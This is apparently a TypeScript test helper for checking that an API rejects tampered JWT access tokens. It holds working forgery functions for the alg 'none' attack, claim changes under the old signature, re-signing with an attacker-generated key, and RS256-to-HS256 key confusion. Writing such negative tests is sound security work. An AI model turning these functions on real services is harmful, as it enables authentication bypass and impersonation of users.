/** Access tokens taken apart and put together anew, to try what the API refuses. */
import { createHmac, createSign, generateKeyPairSync } from 'node:crypto';
import { z } from 'zod';

const partSchema = z.record(z.string(), z.unknown());

const decode = (part = '') =>
  partSchema.parse(JSON.parse(Buffer.from(part, 'base64url').toString()));
const encode = (part: object) => Buffer.from(JSON.stringify(part)).toString('base64url');

const headerOf = (token: string) => decode(token.split('.')[0]);
export const claimsOf = (token: string) => decode(token.split('.')[1]);

/** The same claims, signed by nobody. */
export const unsigned = (token: string): string =>
  `${encode({ alg: 'none', typ: 'JWT' })}.${encode(claimsOf(token))}.`;

/** Other claims under the old signature. */
export function changed(token: string, claims: object): string {
  const [header = '', , signature = ''] = token.split('.');
  return [header, encode({ ...claimsOf(token), ...claims }), signature].join('.');
}

/** The same claims and key id, signed with a key of one's own. */
export function forged(token: string): string {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const signed = `${encode(headerOf(token))}.${encode(claimsOf(token))}`;
  return `${signed}.${createSign('RSA-SHA256').update(signed).sign(privateKey, 'base64url')}`;
}

/** The old trick: what is public taken for the secret of another algorithm. */
export function confused(token: string, publicKey: string): string {
  const header = encode({ ...headerOf(token), alg: 'HS256' });
  const signed = `${header}.${encode(claimsOf(token))}`;
  return `${signed}.${createHmac('sha256', publicKey).update(signed).digest('base64url')}`;
}
